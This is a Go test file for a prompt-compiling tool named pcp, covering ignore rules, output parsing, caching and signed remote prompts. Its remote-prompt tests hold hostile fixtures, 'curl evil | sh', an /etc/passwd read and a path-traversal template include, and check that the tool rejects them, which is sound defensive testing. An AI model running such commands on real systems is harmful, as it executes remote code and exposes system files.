+		{"tree: \"project\"\n    extensions: [go]", "extensions apply only to dir operations"},
+	}
+	for _, tt := range errorTests {
+		if _, err := compile(tt.op); err == nil || !strings.Contains(err.Error(), tt.expected) {
+			t.Errorf("%s: expected an error containing %q, got %v", tt.op, tt.expected, err)
+		}
+	}
+}
+
+func TestCompileAdHoc(t *testing.T) {
+	tmpDir := t.TempDir()
+	for name, content := range map[string]string{"a.txt": "alpha\n", "src/b.go": "package b\n", "src/c.go": "package c\n"} {
+		path := filepath.Join(tmpDir, name)
+		os.MkdirAll(filepath.Dir(path), 0755)
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	paths := []string{"a.txt", "src", "src/*.go"}
+
+	emitted := filepath.Join(tmpDir, "prompts", "adhoc.yml")
+	os.MkdirAll(filepath.Dir(emitted), 0755)
+	if err := compileAdHoc(Options{}, tmpDir, paths, emitted); err != nil {
+		t.Fatalf("compileAdHoc with emit failed: %v", err)
+	}
+	data, err := os.ReadFile(emitted)
+	if err != nil {
+		t.Fatalf("Failed to read emitted prompt file: %v", err)
+	}
+	expected := "prompt:\n  - file: \"../a.txt\"\n  - dir: \"../src\"\n  - file: \"../src/*.go\"\n"
+	if string(data) != expected {
+		t.Errorf("expected emitted prompt file:\n%s\ngot:\n%s", expected, data)
+	}
+	if _, err := compilePromptFile(Options{PromptFile: emitted, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true}); err != nil {
+		t.Errorf("emitted prompt file does not compile: %v", err)
+	}
+
+	outputFile := filepath.Join(tmpDir, "out.txt")
+	opts := Options{OutputFile: outputFile, MaxWords: 1000, DelimiterStyle: "xml", Overflow: "error", Quiet: true}
+	if err := compileAdHoc(opts, tmpDir, paths[:2], ""); err != nil {
+		t.Fatalf("compileAdHoc failed: %v", err)
+	}
+	output, err := os.ReadFile(outputFile)
+	if err != nil {
+		t.Fatalf("Failed to read output: %v", err)
+	}
+	for _, want := range []string{"alpha", "package b", "package c"} {
+		if !strings.Contains(string(output), want) {
+			t.Errorf("expected output to contain %q, got:\n%s", want, output)
+		}
+	}
+	entries, _ := os.ReadDir(tmpDir)
+	for _, entry := range entries {
+		if strings.HasPrefix(entry.Name(), ".pcp-") {
+			t.Errorf("temporary prompt file %s was left behind", entry.Name())
+		}
+	}
+}
+
+func TestRespectGitignore(t *testing.T) {
+	tmpDir := t.TempDir()
+	for name, content := range map[string]string{
+		".gitignore":                 "node_modules/\n*.log\n!keep.log\n/build\ndocs/*.tmp\n",
+		".git/info/exclude":          "local.txt\n",
+		"main.go":                    "package main\n",
+		"debug.log":                  "noise\n",
+		"keep.log":                   "kept\n",
+		"local.txt":                  "mine\n",
+		"build/out.go":               "package out\n",
+		"node_modules/x/index.js":    "module.exports = 1\n",
+		"sub/build/gen.go":           "package gen\n",
+		"sub/.gitignore":             "secret.txt\n",
+		"sub/secret.txt":             "hunter2\n",
+		"sub/util.go":                "package sub\n",
+		"docs/notes.tmp":             "draft\n",
+		"docs/deep/notes.tmp":        "draft\n",
+		"vendor/lib/node_modules.go": "package lib\n",
+	} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	ignore := newGitignore(filepath.Join(tmpDir, "sub"))
+	for name, expected := range map[string]bool{
+		"main.go":                    false,
+		"debug.log":                  true,
+		"keep.log":                   false,
+		"local.txt":                  true,
+		"build/out.go":               true,
+		"sub/build/gen.go":           false,
+		"node_modules/x/index.js":    true,
+		"sub/secret.txt":             true,
+		"docs/notes.tmp":             true,
+		"docs/deep/notes.tmp":        false,
+		"vendor/lib/node_modules.go": false,
+	} {
+		if got := ignore.Ignored(filepath.Join(tmpDir, name), false); got != expected {
+			t.Errorf("Ignored(%s) = %v, expected %v", name, got, expected)
+		}
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string, respect bool) ([]string, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true, RespectGitignore: respect})
+		var sources []string
+		for _, section := range compiled.Sections {
+			sources = append(sources, section.Source)
+		}
+		return sources, err
+	}
+
+	tests := []struct {
+		op       string
+		respect  bool
+		expected string
+	}{
+		{"dir: \".\"\n    extensions: [go]\n    respect_gitignore: true", false, "main.go sub/build/gen.go sub/util.go vendor/lib/node_modules.go"},
+		{"dir: \".\"\n    extensions: [go]", false, "build/out.go main.go sub/build/gen.go sub/util.go vendor/lib/node_modules.go"},
+		{`file: "**/*.log"`, true, "keep.log"},
+		{"file: \"**/*.log\"\n    respect_gitignore: false", true, "debug.log keep.log"},
+	}
+	for _, tt := range tests {
+		sources, err := compile(tt.op, tt.respect)
+		if err != nil {
+			t.Fatalf("compile(%s) failed: %v", tt.op, err)
+		}
+		if got := strings.Join(sources, " "); got != tt.expected {
+			t.Errorf("%s: expected sections %q, got %q", tt.op, tt.expected, got)
+		}
+	}
+
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - tree: \"sub\"\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true, RespectGitignore: true})
+	if err != nil {
+		t.Fatalf("tree compile failed: %v", err)
+	}
+	if content := compiled.Sections[0].Content; strings.Contains(content, "secret.txt") || !strings.Contains(content, "gen.go") {
+		t.Errorf("expected the tree to follow sub/.gitignore, got:\n%s", content)
+	}
+
+	if _, err := compile("file: \"main.go\"\n    respect_gitignore: true", false); err == nil || !strings.Contains(err.Error(), "respect_gitignore applies only") {
+		t.Errorf("expected respect_gitignore to be rejected on a plain file operation, got %v", err)
+	}
+}
+
+func TestRecordsFormat(t *testing.T) {
+	content := CompiledContent{Sections: []ContentSection{
+		{Source: "main.go", Content: "package main\n", Type: FileOp},
+		{Source: "nested.yml", Type: PromptOp, Children: []ContentSection{
+			{Source: "go test ./...", Content: "ok\tpcp\n", Type: CommandOp},
+		}},
+		{Source: "odd\tname", Content: "a\x00b\n", Type: FileOp, ID: "3f2a9c1b7d4e"},
+	}}
+	output, err := renderOutput(content, "records", "xml", "\n")
+	if err != nil {
+		t.Fatalf("renderOutput failed: %v", err)
+	}
+	expected := "file\tmain.go\npackage main\n\x00command\tgo test ./...\nok\tpcp\n\x00file\todd name\t3f2a9c1b7d4e\na\uFFFDb\n\x00"
+	if output != expected {
+		t.Errorf("expected records output %q, got %q", expected, output)
+	}
+	if records := strings.Split(strings.TrimSuffix(output, "\x00"), "\x00"); len(records) != 3 {
+		t.Errorf("expected 3 NUL-separated records, got %d", len(records))
+	}
+
+	if err := validateOptions(Options{PromptFile: "prompt.yml", Format: "records", Checksum: true, DelimiterStyle: "xml", Overflow: "error"}); err == nil || !strings.Contains(err.Error(), "records") {
+		t.Errorf("expected -checksum to be rejected with records output, got %v", err)
+	}
+}
+
+func TestPcpignore(t *testing.T) {
+	tmpDir := t.TempDir()
+	for name, content := range map[string]string{
+		".pcpignore":          "vendor/\n*.lock\nsecrets/\n!keep.lock\n",
+		"main.go":             "package main\n",
+		"go.lock":             "locked\n",
+		"keep.lock":           "kept\n",
+		"vendor/lib/lib.go":   "package lib\n",
+		"secrets/key.txt":     "hunter2\n",
+		"parts/nested.yml":    "prompt:\n  - file: \"../secrets/key.txt\"\n",
+		"parts/included.yml":  "prompt:\n  - dir: \"..\"\n",
+		"internal/x/x.go":     "package x\n",
+		"internal/x/x.lock":   "locked\n",
+		"internal/vendor.txt": "not vendored\n",
+	} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(ops string) ([]string, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n"+ops), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+		var sources []string
+		for _, section := range leafSections(compiled.Sections) {
+			sources = append(sources, section.Source)
+		}
+		return sources, err
+	}
+
+	sources, err := compile("  - dir: \".\"\n    extensions: [go, lock, txt]\n  - file: \"**/*.lock\"\n  - tree: \".\"\n")
+	if err != nil {
+		t.Fatalf("compile failed: %v", err)
+	}
+	expected := "internal/vendor.txt internal/x/x.go keep.lock main.go keep.lock ."
+	if got := strings.Join(sources, " "); got != expected {
+		t.Errorf("expected sections %q, got %q", expected, got)
+	}
+
+	// Nested prompts in other directories follow the root's .pcpignore
+	if sources, err = compile("  - prompt: \"parts/included.yml\"\n"); err != nil {
+		t.Fatalf("compile failed: %v", err)
+	}
+	for _, source := range sources {
+		if strings.Contains(source, "vendor/") || strings.Contains(source, "secrets") || strings.HasSuffix(source, "go.lock") {
+			t.Errorf("expected %s to be excluded by .pcpignore", source)
+		}
+	}
+
+	for _, ops := range []string{"  - file: \"secrets/key.txt\"\n", "  - prompt: \"parts/nested.yml\"\n"} {
+		if _, err := compile(ops); err == nil || !strings.Contains(err.Error(), "excluded by .pcpignore") {
+			t.Errorf("%s: expected an excluded file error, got %v", ops, err)
+		}
+	}
+
+	candidates, err := pickCandidates(tmpDir)
+	if err != nil {
+		t.Fatalf("pickCandidates failed: %v", err)
+	}
+	for _, candidate := range candidates {
+		if strings.HasPrefix(candidate, "vendor/") || strings.HasPrefix(candidate, "secrets/") || candidate == "go.lock" {
+			t.Errorf("pick offered %s, which .pcpignore excludes", candidate)
+		}
+	}
+}
+
+func TestParseCompiledOutput(t *testing.T) {
+	content := CompiledContent{Sections: []ContentSection{
+		{Source: "main.go", Content: "package main\n\nfunc main() {}\n", Type: FileOp, ID: "3f2a9c1b7d4e"},
+		{Source: "grep -rn TODO", Content: "main.go:1: TODO\n", Type: CommandOp, ExitCode: 1},
+		{Source: "text", Content: "Review the code above.\n", Type: TextOp},
+	}}
+	expected := []parsedSection{
+		{Source: "main.go", ID: "3f2a9c1b7d4e", Content: "package main\n\nfunc main() {}\n"},
+		{Source: "grep -rn TODO", ExitCode: 1, Content: "main.go:1: TODO\n"},
+		{Source: "text", Content: "Review the code above.\n"},
+	}
+
+	for _, style := range []string{"xml", "minimal", "full"} {
+		for _, separator := range []string{"\n", "\n---\n"} {
+			output, err := compileOutput(content, style, separator)
+			if err != nil {
+				t.Fatalf("compileOutput failed: %v", err)
+			}
+			for _, parseStyle := range []string{"auto", style} {
+				parsed, err := parseCompiledOutput(output, parseStyle, separator)
+				if err != nil {
+					t.Fatalf("%s/%q: parseCompiledOutput failed: %v", style, separator, err)
+				}
+				if parsed.DelimiterStyle != style {
+					t.Errorf("expected delimiter style %s, got %s", style, parsed.DelimiterStyle)
+				}
+				if !slices.Equal(parsed.Sections, expected) {
+					t.Errorf("%s/%q: expected sections %+v, got %+v", style, separator, expected, parsed.Sections)
+				}
+				if parsed.WordCount != 11 {
+					t.Errorf("expected 11 words, got %d", parsed.WordCount)
+				}
+			}
+		}
+	}
+
+	output, _ := compileOutput(content, "xml", "\n")
+	withChecksum := appendChecksum(output, len(content.Sections))
+	if parsed, err := parseCompiledOutput(withChecksum, "auto", "\n"); err != nil || !slices.Equal(parsed.Sections, expected) {
+		t.Errorf("expected a checksummed output to parse, got %+v, %v", parsed.Sections, err)
+	}
+	tampered := strings.Replace(withChecksum, "TODO\n", "DONE\n", 1)
+	if _, err := parseCompiledOutput(tampered, "auto", "\n"); err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Errorf("expected a checksum mismatch, got %v", err)
+	}
+
+	noneOutput, _ := compileOutput(content, "none", "\n")
+	if _, err := parseCompiledOutput(noneOutput, "auto", "\n"); err == nil || !strings.Contains(err.Error(), "cannot be parsed") {
+		t.Errorf("expected output without headers to be rejected, got %v", err)
+	}
+	if _, err := parseCompiledOutput("preamble\n"+output, "xml", "\n"); err == nil || !strings.Contains(err.Error(), "line 1") {
+		t.Errorf("expected text before the first header to be rejected, got %v", err)
+	}
+}
+
+func TestParseCompiledNestedPrompt(t *testing.T) {
+	tmpDir := t.TempDir()
+	os.WriteFile(filepath.Join(tmpDir, "a.txt"), []byte("alpha\n"), 0644)
+	os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \"inner\"\n"), 0644)
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	os.WriteFile(promptFile, []byte("prompt:\n  - file: \"a.txt\"\n  - prompt: \"nested.yml\"\n"), 0644)
+
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	output, _ := compileOutput(compiled, "xml", "\n")
+	parsed, err := parseCompiledOutput(output, "auto", "\n")
+	if err != nil {
+		t.Fatalf("parseCompiledOutput failed: %v", err)
+	}
+	expected := []parsedSection{{Source: "a.txt", Content: "alpha\n"}, {Source: "nested.yml"}, {Source: "nested.yml->text", Content: "inner\n"}}
+	if !slices.Equal(parsed.Sections, expected) {
+		t.Errorf("expected sections %+v, got %+v\n%s", expected, parsed.Sections, output)
+	}
+}
+
+func TestMaxSections(t *testing.T) {
+	tmpDir := t.TempDir()
+	for i := 0; i < 5; i++ {
+		os.WriteFile(filepath.Join(tmpDir, fmt.Sprintf("f%d.txt", i)), []byte("content\n"), 0644)
+	}
+	os.WriteFile(filepath.Join(tmpDir, "nested.yml"), []byte("prompt:\n  - text: \"one\"\n  - comment: \"not a section\"\n  - text: \"two\"\n"), 0644)
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(ops string, limit int) error {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n"+ops), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		_, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true, MaxSections: limit})
+		return err
+	}
+
+	tests := []struct {
+		ops      string
+		limit    int
+		expected string
+	}{
+		{"  - file: \"*.txt\"\n", 0, ""},
+		{"  - file: \"*.txt\"\n", 5, ""},
+		{"  - file: \"*.txt\"\n", 4, "*.txt matches 5 files, more than -max-sections 4"},
+		{"  - dir: \".\"\n    extensions: [txt]\n", 3, ". matches 5 files, more than -max-sections 3"},
+		{"  - file: \"f0.txt\"\n  - prompt: \"nested.yml\"\n", 3, ""},
+		{"  - file: \"f0.txt\"\n  - prompt: \"nested.yml\"\n", 2, "more than -max-sections 2 sections"},
+		{"  - file: \"f*.txt\"\n  - text: \"extra\"\n", 5, "more than -max-sections 5 sections"},
+	}
+	for _, tt := range tests {
+		err := compile(tt.ops, tt.limit)
+		if tt.expected == "" {
+			if err != nil {
+				t.Errorf("%s with -max-sections %d: unexpected error %v", tt.ops, tt.limit, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.expected) {
+			t.Errorf("%s with -max-sections %d: expected an error containing %q, got %v", tt.ops, tt.limit, tt.expected, err)
+		}
+	}
+
+	if err := validateOptions(Options{PromptFile: "prompt.yml", DelimiterStyle: "xml", Overflow: "error", MaxSections: -1}); err == nil {
+		t.Error("expected a negative -max-sections to be rejected")
+	}
+}
+
+func TestPlanEstimate(t *testing.T) {
+	tmpDir := t.TempDir()
+	os.WriteFile(filepath.Join(tmpDir, "small.txt"), []byte("123456789012"), 0644)
+	os.WriteFile(filepath.Join(tmpDir, "large.txt"), []byte(strings.Repeat("x", 600)), 0644)
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	os.WriteFile(promptFile, []byte("prompt:\n  - file: \"*.txt\"\n  - text: \"three short words\"\n  - command: \"echo hi\"\n  - comment: \"not counted\"\n"), 0644)
+
+	plan, err := resolvePlan(Options{PromptFile: promptFile, MaxWords: 50, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("resolvePlan failed: %v", err)
+	}
+	var out bytes.Buffer
+	printEstimate(&out, plan, 50, defaultCharsPerToken)
+	for _, expected := range []string{
+		"files: 2\n",
+		"bytes: 629\n",
+		"words: ~105\n",
+		"tokens: ~158\n",
+		"over -max-words 50 by ~55 words\n",
+		"not estimated: 1 operations (command)\n",
+		"    large.txt (600 bytes)\n    small.txt (12 bytes)\n",
+	} {
+		if !strings.Contains(out.String(), expected) {
+			t.Errorf("expected the estimate to contain %q, got:\n%s", expected, out.String())
+		}
+	}
+
+	out.Reset()
+	printEstimate(&out, plan, 1000, defaultCharsPerToken)
+	if strings.Contains(out.String(), "over -max-words") {
+		t.Errorf("expected no overflow line under the limit, got:\n%s", out.String())
+	}
+}
+
+func TestRemoteCache(t *testing.T) {
+	var downloads, requests int
+	body := "Services talk over queues"
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests++
+		etag := fmt.Sprintf("%q", fmt.Sprintf("%x", sha256.Sum256([]byte(body))))
+		w.Header().Set("ETag", etag)
+		if r.Header.Get("If-None-Match") == etag {
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		downloads++
+		fmt.Fprint(w, body)
+	}))
+	defer server.Close()
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - pcp_remote: "+server.URL+"/arch"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compile := func(opts Options) string {
+		t.Helper()
+		opts.PromptFile, opts.MaxWords, opts.DelimiterStyle, opts.Quiet = promptFile, 100, "xml", true
+		opts.CacheDir = filepath.Join(tmpDir, "cache")
+		compiled, err := compilePromptFile(opts)
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		return compiled.Sections[0].Content
+	}
+
+	tests := []struct {
+		name      string
+		opts      Options
+		change    bool
+		content   string
+		requests  int
+		downloads int
+	}{
+		{"first fetch", Options{}, false, "Services talk over queues\n", 1, 1},
+		{"unchanged source is revalidated", Options{}, false, "Services talk over queues\n", 2, 1},
+		{"changed source is downloaded", Options{}, true, "Services talk over Kafka\n", 3, 2},
+		{"fresh response is not revalidated", Options{RemoteCacheTTL: time.Hour}, false, "Services talk over Kafka\n", 3, 2},
+		{"-no-cache fetches afresh", Options{NoCache: true, RemoteCacheTTL: time.Hour}, false, "Services talk over Kafka\n", 4, 3},
+	}
+	for _, tt := range tests {
+		if tt.change {
+			body = "Services talk over Kafka"
+		}
+		if content := compile(tt.opts); content != tt.content {
+			t.Errorf("%s: expected content %q, got %q", tt.name, tt.content, content)
+		}
+		if requests != tt.requests || downloads != tt.downloads {
+			t.Errorf("%s: expected %d requests and %d downloads, got %d and %d", tt.name, tt.requests, tt.downloads, requests, downloads)
+		}
+	}
+
+	if err := validateOptions(Options{PromptFile: "prompt.yml", DelimiterStyle: "xml", Overflow: "error", RemoteCacheTTL: -time.Minute}); err == nil {
+		t.Error("expected a negative -remote-cache-ttl to be rejected")
+	}
+}
+
+func TestModelPresets(t *testing.T) {
+	parse := func(args ...string) Options {
+		t.Helper()
+		opts := Options{Vars: make(map[string]string)}
+		fs := flag.NewFlagSet("test", flag.ContinueOnError)
+		registerCompileFlags(fs, &opts)
+		if err := fs.Parse(args); err != nil {
+			t.Fatalf("Parse(%v) failed: %v", args, err)
+		}
+		return opts
+	}
+
+	tests := []struct {
+		args   []string
+		budget int
+	}{
+		{nil, 128000},
+		{[]string{"-model", "gpt-4o"}, 74410},
+		{[]string{"-model", "claude-3-5-sonnet", "-reserve-tokens", "20000"}, 105000},
+		{[]string{"-model", "gpt-4o", "-max-words", "5000"}, 5000},
+		{[]string{"-max-words", "5000", "-model", "gpt-4o"}, 5000},
+		{[]string{"-reserve-tokens", "3000"}, 126000},
+		{[]string{"-max-words", "5000", "-reserve-tokens", "3000"}, 3000},
+		{[]string{"-model", "claude-3-5-sonnet", "-max-words", "5000", "-reserve-tokens", "1200"}, 4300},
+	}
+	for _, tt := range tests {
+		if budget := parse(tt.args...).wordBudget(); budget != tt.budget {
+			t.Errorf("%v: expected a budget of %d words, got %d", tt.args, tt.budget, budget)
+		}
+	}
+
+	for _, args := range [][]string{
+		{"-model", "gpt-5-ultra"},
+		{"-max-words", "600", "-reserve-tokens", "900"},
+		{"-reserve-tokens", "-1"},
+		{"-model", "gpt-4o", "-reserve-tokens", "128000"},
+	} {
+		opts := parse(args...)
+		opts.PromptFile, opts.DelimiterStyle = "prompt.yml", "xml"
+		if err := validateOptions(opts); err == nil {
+			t.Errorf("%v: expected an error", args)
+		}
+	}
+
+	// max_tokens caps follow the model's tokenizer
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - text: \""+strings.Repeat("abcdefg ", 10)+"\"\n    max_tokens: 14\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	for model, words := range map[string]int{"": 3, "claude-3-5-sonnet": 2} {
+		opts := Options{PromptFile: promptFile, MaxWords: 100, maxWordsSet: true, DelimiterStyle: "xml", Model: model}
+		compiled, err := compilePromptFile(opts)
+		if err != nil {
+			t.Fatalf("compilePromptFile failed: %v", err)
+		}
+		content := compiled.Sections[0].Content
+		if got := strings.Count(content, "abcdefg"); got != words || estimateTokens(content, opts.charsPerToken()) > 14 {
+			t.Errorf("model %q: expected %d words within 14 tokens, marker included, got %q", model, words, content)
+		}
+	}
+}
+
+func TestRemotePrompt(t *testing.T) {
+	publicKey, privateKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("GenerateKey failed: %v", err)
+	}
+	keyID := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	verifyKey := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), keyID...), publicKey...))
+	sign := func(data string) string {
+		hash := blake2b.Sum512([]byte(data))
+		sig := append(append([]byte("ED"), keyID...), ed25519.Sign(privateKey, hash[:])...)
+		global := ed25519.Sign(privateKey, append(slices.Clone(sig[10:]), "timestamp:0"...))
+		return "untrusted comment: signature\n" + base64.StdEncoding.EncodeToString(sig) + "\ntrusted comment: timestamp:0\n" + base64.StdEncoding.EncodeToString(global) + "\n"
+	}
+
+	files := map[string]string{
+		"/shared/review.yml":      "prompt:\n  - text: \"Review carefully\"\n  - file: \"guide.md\"\n  - prompt: \"parts/extra.yml\"\n",
+		"/shared/guide.md":        "Be kind",
+		"/shared/parts/extra.yml": "prompt:\n  - file: \"../notes.txt\"\n",
+		"/shared/notes.txt":       "Check the tests",
+		"/shared/listing.yml":     "prompt:\n  - dir: \".\"\n",
+		"/shared/glob.yml":        "prompt:\n  - file: \"*.md\"\n",
+		"/shared/changes.yml":     "prompt:\n  - diff: \"HEAD~1\"\n",
+		"/shared/tools.yml":       "prompt:\n  - command: \"echo from the server\"\n",
+	}
+	files["/shared/review.yml.minisig"] = sign(files["/shared/review.yml"])
+	files["/shared/parts/extra.yml.minisig"] = sign(files["/shared/parts/extra.yml"])
+	files["/shared/tools.yml.minisig"] = sign(files["/shared/tools.yml"])
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		content, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		fmt.Fprint(w, content)
+	}))
+	defer server.Close()
+	defer func(client *http.Client) { remoteClient = client }(remoteClient)
+	remoteClient = server.Client()
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(prompt string, opts Options) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - prompt: \""+prompt+"\"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		opts.PromptFile, opts.MaxWords, opts.DelimiterStyle, opts.Quiet = promptFile, 100, "xml", true
+		opts.CacheDir = filepath.Join(tmpDir, "cache")
+		return compilePromptFile(opts)
+	}
+
+	compiled, err := compile(server.URL+"/shared/review.yml", Options{})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	output, _ := renderOutput(compiled, "text", "xml", "\n")
+	for _, expected := range []string{
+		"<!-- pcp-source: " + server.URL + "/shared/review.yml -->",
+		"Review carefully",
+		"/shared/review.yml->guide.md -->\nBe kind",
+		"parts/extra.yml->../notes.txt -->\nCheck the tests",
+	} {
+		if !strings.Contains(output, expected) {
+			t.Errorf("expected the output to contain %q, got:\n%s", expected, output)
+		}
+	}
+
+	if _, err := compile(server.URL+"/shared/review.yml", Options{VerifyKey: verifyKey}); err != nil {
+		t.Errorf("signed remote prompts should verify, got %v", err)
+	}
+	files["/shared/guide.md"] = "Be unkind"
+	if compiled, err := compile(server.URL+"/shared/review.yml", Options{}); err != nil || !strings.Contains(compiled.Sections[0].Content, "Be unkind") {
+		t.Errorf("changed remote files should be fetched again, got %v", err)
+	}
+
+	for prompt, expected := range map[string]string{
+		server.URL + "/shared/listing.yml":   "dir operations with relative paths cannot be used in a remote prompt",
+		server.URL + "/shared/glob.yml":      "globs cannot be used in a remote prompt",
+		server.URL + "/shared/changes.yml":   "git diffs cannot be used in a remote prompt",
+		server.URL + "/shared/tools.yml":     "pass -allow-remote-commands",
+		server.URL + "/shared/missing.yml":   "404",
+		"http://example.com/shared/open.yml": "only https URLs are supported",
+	} {
+		if _, err := compile(prompt, Options{}); err == nil || !strings.Contains(err.Error(), expected) {
+			t.Errorf("%s: expected an error containing %q, got %v", prompt, expected, err)
+		}
+	}
+
+	// Commands run once the prompt is signed, or explicitly allowed
+	for _, opts := range []Options{{VerifyKey: verifyKey}, {AllowRemoteCommands: true}} {
+		if compiled, err := compile(server.URL+"/shared/tools.yml", opts); err != nil || !strings.Contains(compiled.Sections[0].Content, "from the server") {
+			t.Errorf("%+v: expected the remote command to run, got %v", opts, err)
+		}
+	}
+
+	// Nor may an unsigned prompt read local files, through absolute paths or
+	// template includes; relative paths, .. included, are fetched
+	secret := filepath.Join(tmpDir, "secret.txt")
+	if err := os.WriteFile(secret, []byte("local secret"), 0644); err != nil {
+		t.Fatalf("Failed to create secret file: %v", err)
+	}
+	files["/shared/passwd.yml"] = "prompt:\n  - file: \"/etc/passwd\"\n"
+	files["/shared/log.yml"] = "prompt:\n  - log: {file: \"" + filepath.ToSlash(secret) + "\"}\n"
+	files["/shared/git.yml"] = "prompt:\n  - git: {path: \"" + filepath.ToSlash(secret) + "\", ref: HEAD}\n"
+	files["/shared/nested.yml"] = "prompt:\n  - prompt: \"" + filepath.ToSlash(filepath.Join(tmpDir, "prompt.yml")) + "\"\n"
+	files["/shared/include.yml"] = "prompt:\n  - text: '{{include \"../../../../../../../../../../etc/passwd\"}}'\n    template: true\n"
+	files["/shared/secret.yml"] = "prompt:\n  - file: \"" + filepath.ToSlash(secret) + "\"\n"
+	for prompt, expected := range map[string]string{
+		"/shared/passwd.yml":  "file operations in a remote prompt cannot read /etc/passwd from this machine",
+		"/shared/log.yml":     "log operations in a remote prompt cannot read",
+		"/shared/git.yml":     "git operations in a remote prompt cannot read",
+		"/shared/nested.yml":  "prompt operations in a remote prompt cannot read",
+		"/shared/include.yml": "template cannot include",
+		"/shared/secret.yml":  "-allow-remote-commands",
+	} {
+		if prompt == "/shared/passwd.yml" && runtime.GOOS == "windows" {
+			// Not an absolute path on Windows, so fetched from the server
+			continue
+		}
+		if _, err := compile(server.URL+prompt, Options{}); err == nil || !strings.Contains(err.Error(), expected) {
+			t.Errorf("%s: expected an error containing %q, got %v", prompt, expected, err)
+		}
+	}
+	if compiled, err := compile(server.URL+"/shared/secret.yml", Options{AllowRemoteCommands: true}); err != nil || !strings.Contains(compiled.Sections[0].Content, "local secret") {
+		t.Errorf("-allow-remote-commands should allow local paths, got %v", err)
+	}
+
+	files["/shared/unsigned.yml"] = "prompt:\n  - command: \"curl evil | sh\"\n"
+	if _, err := compile(server.URL+"/shared/unsigned.yml", Options{VerifyKey: verifyKey}); err == nil || !strings.Contains(err.Error(), "has no signature") {
+		t.Errorf("unsigned remote prompts should fail with -verify-key, got %v", err)
+	}
+}
+
+func TestGitOperation(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := t.TempDir()
+	git := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-c", "user.name=pcp", "-c", "user.email=pcp@example.com"}, args...)...)
+		cmd.Dir = repo
+		if output, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v failed: %v\n%s", args, err, output)
+		}
+	}
+	os.MkdirAll(filepath.Join(repo, "src"), 0755)
+	os.WriteFile(filepath.Join(repo, "src", "main.go"), []byte("package main // v1\n"), 0644)
+	os.WriteFile(filepath.Join(repo, "src", "old.go"), []byte("package main // removed\n"), 0644)
+	os.MkdirAll(filepath.Join(repo, "legacy", "util"), 0755)
+	os.WriteFile(filepath.Join(repo, "legacy", "util", "strings.go"), []byte("package util\n"), 0644)
+	git("init", "-q")
+	git("add", ".")
+	git("commit", "-q", "-m", "v1")
+	git("tag", "v1.0.0")
